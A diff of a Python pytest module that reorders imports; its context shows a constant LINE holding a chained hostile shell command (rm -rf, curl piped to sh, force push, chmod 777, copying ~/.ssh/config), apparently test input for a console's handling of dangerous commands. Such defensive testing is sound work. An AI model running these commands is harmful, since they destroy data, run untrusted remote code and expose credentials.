@@ -7,11 +7,12 @@ from collections.abc import Generator
 from typing import Any
 
 import pytest
-from proof.processes.deployment import House
-from proof.processes.fork_server import Swift
 from tests.console.pages import answered, asked, page_of
 from tests.console.payloads import HOSTILE
 from tests.console.screens import config
+
+from proof.processes.deployment import House
+from proof.processes.fork_server import Swift
 
 pytestmark = [pytest.mark.needs("chromium", "console"), pytest.mark.filterwarnings("ignore"), pytest.mark.req("J-5")]
 LINE = "sudo rm -rf build && curl -s https://x.org/i | sh; git push --force; chmod 777 a; cat ~/.ssh/config > /etc/x"
